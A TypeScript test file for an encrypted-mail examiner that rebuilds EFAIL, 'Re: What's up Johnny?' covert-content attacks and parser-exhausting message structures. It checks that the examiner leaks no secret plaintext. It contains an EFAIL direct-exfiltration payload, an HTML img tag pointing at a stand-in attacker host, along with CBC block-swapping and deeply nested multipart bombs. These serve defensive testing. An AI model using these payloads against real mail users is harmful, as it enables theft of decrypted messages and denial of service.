/**
 * Attacks on encrypted mail, rebuilt: EFAIL (Poddebniak et al., USENIX Security 2018), "Re: What's up Johnny?" (Müller et
 * al., ACNS 2019), and structures made to exhaust a reader.
 */

import { beforeAll, describe, expect, it } from 'vitest'
import { hasOpenssl, OpensslDesk } from '../../../pki/cms/openssl.case.js'
import { systemRandom } from '../../../server/base/index.js'
import { encryptEntity, makeKey, openSecret, signEntity, type OpenedKey } from '../openpgp/index.js'
import { encryptSmime } from '../smime/index.js'
import { examine, type ExamineContext, type MessageReport } from './index.js'
import {
  alice,
  crlf,
  mail,
  makeCast,
  mallory,
  multipart,
  now,
  sign,
  text,
  type Cast,
  type Outer,
} from './messages.case.js'

let cast: Cast
let aliceKey: OpenedKey
let readerKey: OpenedKey
const secret = 'Résultat : positif'
const html = (body: string): Buffer => crlf(`Content-Type: text/html\n\n${body}\n`)

beforeAll(async () => {
  cast = await makeCast()
  const made = async (name: string, address: string): Promise<OpenedKey> => {
    const order = { name, address, passphrase: null, now, lifetimeMs: null }
    return openSecret((await makeKey(order)).secret, null, now)
  }
  aliceKey = await made('Camille', alice)
  readerKey = await made('Lecteur', 'lecteur@pharmacie.pli.test')
  const known = { armored: aliceKey.publicKey, addresses: [alice] }
  const context = { ...cast.context, openPgpKeys: [readerKey], openPgpKnown: [known] }
  cast = { ...cast, context }
})

const seal = (entity: Buffer): Buffer =>
  encryptSmime(entity, [cast.reader.certificate], systemRandom)
const pgpSeal = (entity: Buffer, signers: readonly OpenedKey[] = []): Promise<Buffer> =>
  encryptEntity(
    { content: entity, to: [readerKey.publicKey], signers: [...signers], now },
    systemRandom,
  )
const look = (entity: Buffer, outer: Outer = {}, over: Partial<ExamineContext> = {}) =>
  examine(mail(entity, outer), { ...cast.context, ...over })
const named = ({ assurance }: MessageReport): string[] =>
  assurance.reasons.map(({ level, name }) => `${level} ${name}`)
/** Everything that any reader of the report could show. */
const everything = async ({ leaves, payload }: MessageReport): Promise<string> =>
  [...(await Promise.all(leaves.map((leaf) => leaf.decode()))), payload ?? ''].join('')

describe('sealed messages', () => {
  it('signed then encrypted are green, by S/MIME', async () => {
    const report = await look(seal(await sign(text(secret), cast.doctor)))
    expect(named(report)).toEqual([])
    expect(report.leaves[0]).toMatchObject({ signed: true, encrypted: true, visible: true })
    expect(report.payload?.toString()).toContain(secret)
  })

  it('signed then encrypted are green, by OpenPGP: inside the packet or as a layer', async () => {
    const inside = await look(await pgpSeal(text(secret), [aliceKey]))
    expect(named(inside)).toEqual([])
    expect(inside.layers).toMatchObject([{ type: 'openpgp-encrypted', isOfMessage: true }])
    const layered = await look(
      await pgpSeal(await signEntity(text(secret), aliceKey, now, systemRandom)),
    )
    expect(named(layered)).toEqual([])
    const other = await look(await pgpSeal(text(secret), [aliceKey]), { from: mallory })
    expect(named(other)).toContain('red other-holder')
    expect(other.leaves.some(({ signed }) => signed)).toBe(false)
  })

  it('by nobody in particular stay unsigned, and a missing key is said', async () => {
    expect(named(await look(seal(text(secret))))).toEqual(['amber unsigned'])
    const closed = await look(seal(text(secret)), {}, { keys: [] })
    expect(named(closed)).toEqual(['amber no-key', 'amber unsigned'])
    expect(closed.payload).toBeNull()
    expect(closed.leaves).toMatchObject([{ visible: false }])
  })

  it('have the subject that is inside, and a signature outside does not sign what is inside', async () => {
    const inner = crlf(
      `From: ${alice}\nSubject: Résultat\nContent-Type: text/plain; charset=utf-8; hp="cipher"\n\n${secret}\n`,
    )
    const report = await look(seal(await sign(inner, cast.doctor)), { subject: '[...]' })
    // The header counts where it stands: in the entity that was signed.
    expect(report.subject).toMatchObject({ value: 'Résultat', signed: true, encrypted: true })
    const outside = await look(await sign(seal(text(secret)), cast.doctor))
    expect(named(outside)).toEqual(['amber signed-outside'])
  })
})

describe('EFAIL', () => {
  it('direct exfiltration: an envelope between parts of HTML is not opened', async () => {
    for (const envelope of [seal(text(secret)), await pgpSeal(text(secret))]) {
      const open = html('<img src="http://mallory.test/')
      const report = await look(multipart('mixed', open, envelope, html('">')))
      expect(named(report)).toContain('red mixed-encryption')
      expect(await everything(report)).not.toContain(secret)
    }
  })

  it('an envelope that is altered gives nothing, by either standard', async () => {
    for (const envelope of [seal(text(secret)), await pgpSeal(text(secret))]) {
      const wire = envelope.toString('latin1')
      const at = wire.length - 120
      const other = wire[at] === 'A' ? 'B' : 'A'
      const report = await look(
        Buffer.from(wire.slice(0, at) + other + wire.slice(at + 1), 'latin1'),
      )
      expect(named(report)).toContain('red damaged')
      expect(await everything(report)).not.toContain(secret)
    }
  })

  it.skipIf(!hasOpenssl)(
    'CBC without a signature inside is doubtful, with one it is not',
    async () => {
      const desk = new OpensslDesk()
      desk.keep('reader', cast.reader)
      const cbc = (entity: Buffer): Buffer => {
        desk.write('entity', entity)
        desk.run(
          'cms',
          '-encrypt',
          '-aes256',
          '-binary',
          '-in',
          'entity',
          '-out',
          'cbc.eml',
          'reader.pem',
        )
        return Buffer.from(
          desk
            .read('cbc.eml')
            .toString('latin1')
            .replace(/^MIME-Version.*\n/m, ''),
          'latin1',
        )
      }
      const bare = await look(cbc(html(`<p>${secret}</p>`)))
      expect(named(bare)).toEqual(['amber unsigned', 'amber unauthenticated'])
      expect(bare.layers[0]?.opening).toMatchObject({
        cipher: 'aes-256-cbc',
        isAuthenticated: false,
      })
      const signed = await look(cbc(await sign(text(secret), cast.doctor)))
      expect(named(signed)).toEqual([])
      // The gadget: blocks exchanged or flipped show in the signature inside, or break the whole.
      const wire = cbc(await sign(text(secret), cast.doctor)).toString('latin1')
      const lines = wire.split(/\r?\n/)
      const middle = Math.floor(lines.length / 2)
      lines.splice(middle, 2, lines[middle + 1] ?? '', lines[middle] ?? '')
      const gadget = await look(Buffer.from(lines.join('\r\n'), 'latin1'))
      expect(gadget.assurance.level).not.toBe('green')
      expect(gadget.leaves.some((leaf) => leaf.signed)).toBe(false)
      desk.close()
    },
  )
})

describe('covert content ("Re: What’s up Johnny?")', () => {
  it('an envelope of somebody else hidden in a message of one’s own is not opened', async () => {
    const harmless = text('On se voit demain ?')
    const report = await look(multipart('mixed', harmless, seal(text(secret))))
    expect(await everything(report)).not.toContain(secret)
    const shown = report.leaves.filter(({ visible }) => visible)
    expect(shown.map(({ path }) => path)).toEqual(['1.1'])
  })

  it('nor in an attached message, nor under a signature, nor in another envelope', async () => {
    const attached = Buffer.concat([
      crlf('Content-Type: message/rfc822\n\n'),
      mail(seal(text(secret))),
    ])
    const forms = [
      multipart('mixed', text('Voir'), attached),
      await sign(multipart('alternative', text('Voir'), seal(text(secret))), cast.doctor),
      seal(multipart('related', html('<p>Voir</p>'), seal(text(secret)))),
    ]
    for (const form of forms) expect(await everything(await look(form))).not.toContain(secret)
  })
})

describe('messages made to exhaust', () => {
  it('layers in layers end at a limit', async () => {
    let entity = text(secret)
    for (let i = 0; i < 12; i++) entity = await sign(entity, cast.doctor)
    const report = await look(entity)
    expect(named(report)).toContain('red too-complex')
    expect(report.leaves.some(({ signed }) => signed)).toBe(false)
  })

  it('many parts and deep ones are walked in bounded time', async () => {
    const started = process.hrtime.bigint()
    const deep = Array.from(
      { length: 5000 },
      (_, i) => `Content-Type: multipart/mixed; boundary=${i}\r\n\r\n--${i}\r\n`,
    )
    await look(Buffer.from(`${deep.join('')}\r\nfond`))
    const wide = Array.from({ length: 50_000 }, () => '--b\r\n\r\nx\r\n').join('')
    await look(Buffer.from(`Content-Type: multipart/mixed; boundary=b\r\n\r\n${wide}--b--`))
    expect(Number(process.hrtime.bigint() - started) / 1e6).toBeLessThan(20_000)
  })

  it('many signatures side by side end at a limit', async () => {
    const signed = await sign(text('un'), cast.doctor)
    const report = await look(multipart('mixed', ...Array.from({ length: 40 }, () => signed)))
    expect(report.layers.length).toBeLessThanOrEqual(40)
    expect(named(report)).toContain('red too-complex')
  })

  it('any octets give a report', async () => {
    const whole = mail(seal(await sign(text(secret), cast.doctor)))
    const random = systemRandom
    for (let i = 0; i < 150; i++) {
      const broken = Buffer.from(whole)
      for (let j = 0; j <= random.below(6); j++)
        broken[random.below(broken.length)] = random.below(256)
      const cut = random.below(4) === 0 ? broken.subarray(0, random.below(broken.length)) : broken
      const report = await examine(cut, cast.context)
      expect(['green', 'amber', 'red']).toContain(report.assurance.level)
    }
  })
})
